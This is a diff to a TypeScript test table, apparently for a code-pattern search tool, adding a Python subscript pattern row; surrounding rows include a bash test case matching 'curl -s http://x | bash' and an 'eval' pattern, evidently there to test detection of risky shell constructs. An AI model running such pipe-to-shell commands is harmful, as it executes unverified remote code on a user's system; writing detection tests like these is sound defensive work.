@@ -138,6 +138,7 @@ const rows: readonly Row[] = [
   ["python", "-$X", "f(1, -2, -x, 1.5)\n", ["1", "-2", "2", "-x"]],
   ["python", "f($X)\n...", "y = [f(n) for n in g(1)]\n", []],
   ["python", "async def $F(...): ...", "async def f(): pass\n", ["async def f(): pass"]],
+  ["python", "$X[$Y]", "a[]\nb[1, 2]\n", ["a[]", "b[1, 2]"]],
   ["python", "async def $F(...): ...", "match a:\n    case 1: pass\nasync def f(): pass\n", []],
   ["bash", "curl ... | bash", "curl -s http://x | bash\ncurl http://x | cat\n", ["curl -s http://x | bash"]],
   ["bash", "eval $X", "eval \"$y\"\neval\n", ["eval \"$y\""]],
